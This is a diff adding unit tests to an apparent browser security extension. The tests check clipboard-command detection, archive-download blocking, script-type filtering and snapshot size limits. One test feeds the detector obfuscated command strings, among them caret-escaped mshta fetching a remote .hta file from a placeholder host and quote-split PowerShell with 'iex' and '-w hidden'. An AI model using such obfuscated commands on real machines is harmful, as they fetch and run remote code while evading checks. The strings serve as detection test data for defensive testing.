@@ -153,3 +153,83 @@ test('EventRecorder.note: a held action is judged on what it does now', () => {
   r.note('not-recorded', 'x');
   assert.equal(r.list().length, 1);
 });
+
+test('looksLikeCommand: escape and quoting characters do not hide a command from the fallback (issue 21, class 4)', () => {
+  const yes = ['m^s^h^t^a https://x.example/a.hta', 'c^m^d /c start x', 'po`wer`shell -c iex', 'p"ower"sh"ell" -w hidden', "power'shell' -c x"];
+  for (const t of yes) {
+    assert.equal(AG.looksLikeCommand(t), true, t);
+    assert.equal(AG.holdFallback('clipboard-write', AG.holdDetail('clipboard-write', t), true), 'refuse', t);
+  }
+  for (const t of ['2^10 = 1024', 'She said "hello"', 'x`y']) assert.equal(AG.looksLikeCommand(t), false, t);
+});
+
+test('holdFallback: archives fail closed like programs; documents and pictures go on (issue 21, class 4)', () => {
+  const refuse = [{ filename: 'update.zip' }, { filename: 'tool.7z' }, { url: 'https://x.example/a.rar?x=1' }, { filename: 'blob', mime: 'application/zip' },
+    { filename: 'setup.exe' }];
+  const pass = [{ filename: 'report.pdf', mime: 'application/pdf' }, { filename: 'photo.jpg' }, { filename: 'zip.txt' }];
+  for (const i of refuse) assert.equal(AG.holdFallback('download', i), 'refuse', JSON.stringify(i));
+  for (const i of pass) assert.equal(AG.holdFallback('download', i), 'pass', JSON.stringify(i));
+  assert.equal(AG.downloadRoute({ tabId: 1, state: 'judged' }, { filename: 'notes.zip' }), 'hold', 'an archive from a judged page is judged again');
+  assert.equal(AG.downloadRoute(null, { filename: 'notes.zip' }), 'cancel', 'an archive with no page to ask is cancelled');
+});
+
+test('isScriptType: only scripts that run are fetched (issue 21, class 4)', () => {
+  for (const t of ['', 'text/javascript', 'module', 'application/javascript', 'TEXT/JavaScript; charset=utf-8', 'application/x-javascript', 'text/ecmascript']) {
+    assert.equal(AG.isScriptType(t), true, t);
+  }
+  for (const t of ['text/plain', 'text/template', 'application/json', 'importmap', 'speculationrules', 'text/x-handlebars']) assert.equal(AG.isScriptType(t), false, t);
+});
+
+test('wireSize and fitFrame: a snapshot that escapes past the host frame limit is trimmed, never dropped (issue 21, class 5)', () => {
+  // Within the field limits, but every '<' is six bytes on Chromium's wire.
+  const snap = { url: 'https://x.example/', html: '<'.repeat(AG.LIMITS.html), text: 'call 050-1234-5678 now',
+    scripts: Array.from({ length: 8 }, (_, i) => ({ url: 'https://x.example/' + i + '.js', source: '<>&'.repeat(170000) })), events: [{ type: 'fullscreen', count: 1 }] };
+  const msg = { type: 'analyze', id: 'r1', snapshot: snap };
+  assert.ok(wireSizeOver(msg, AG.MAX_FRAME), 'the bomb is over the limit before');
+  const trimmed = AG.fitFrame(msg, AG.MAX_FRAME - 65536);
+  assert.ok(AG.wireSize(msg) <= AG.MAX_FRAME - 65536, 'under the limit after');
+  assert.ok(trimmed.length > 0, 'says what it trimmed');
+  assert.equal(snap.text, 'call 050-1234-5678 now', 'the short visible text is kept');
+  assert.equal(snap.events.length, 1, 'events kept');
+  const small = { type: 'analyze', snapshot: { url: 'https://y.example/', html: '<p>hi</p>' } };
+  assert.deepEqual(AG.fitFrame(small, AG.MAX_FRAME), [], 'a normal snapshot is untouched');
+  assert.equal(small.snapshot.html, '<p>hi</p>');
+  assert.equal(AG.wireSize({ a: '<é' }), JSON.stringify({ a: '' }).length + 12);
+});
+
+function wireSizeOver(msg, max) { return AG.wireSize(msg) > max; }
+
+test('screenTrigger: a picture only when the page holds the screen or is mostly canvas or pictures (issue 21)', () => {
+  const vp = 1280 * 800;
+  const cases = [
+    [{ fullscreen: true, viewport: vp, canvas: 0, images: 0 }, 'fullscreen'],
+    [{ locked: true, viewport: vp, canvas: 0, images: 0 }, 'lock'],
+    [{ viewport: vp, canvas: vp * 0.9, images: 0 }, 'canvas'],
+    [{ viewport: vp, canvas: 0, images: vp * 0.6 }, 'images'],
+    [{ viewport: vp, canvas: vp * 0.2, images: vp * 0.2 }, ''],
+    [{ viewport: 0, canvas: 5, images: 5 }, ''],
+    [{ viewport: vp, canvas: 0, images: 0 }, ''],
+  ];
+  for (const [p, want] of cases) assert.equal(AG.screenTrigger(p), want, JSON.stringify(p));
+});
+
+test('holdFallback: screen sharing is held like the camera (issue 21)', () => {
+  assert.equal(AG.holdFallback('display-media', 'screen', true), 'pass');
+  assert.equal(AG.holdFallback('display-media', 'screen', false), 'refuse');
+  assert.ok(AG.EVENT_TYPES.includes('display-media'));
+  assert.ok(AG.HIGH_RISK.has('display-media'));
+});
+
+test('compactSnapshot: the copy kept to judge a download later is bounded and has no picture (issue 21, class 6)', () => {
+  const big = 'x'.repeat(3 << 20);
+  const s = { url: 'https://x.example/', html: big, text: big, screenshot: { mime: 'image/jpeg', data: big, trigger: 'images' },
+    frames: Array.from({ length: 20 }, (_, i) => ({ url: 'https://f.example/' + i, html: big, text: big })),
+    scripts: Array.from({ length: 32 }, (_, i) => ({ url: 'https://x.example/' + i + '.js', source: big })), events: [{ type: 'download', count: 1 }] };
+  const c = AG.compactSnapshot(s);
+  assert.ok(JSON.stringify(c).length < 8 << 20, 'a few MiB at most');
+  assert.equal(c.screenshot, undefined);
+  assert.equal(c.frames.length, 8);
+  assert.equal(c.url, s.url);
+  assert.deepEqual(c.events, s.events);
+  assert.equal(s.html.length, 3 << 20, 'the original is untouched');
+});
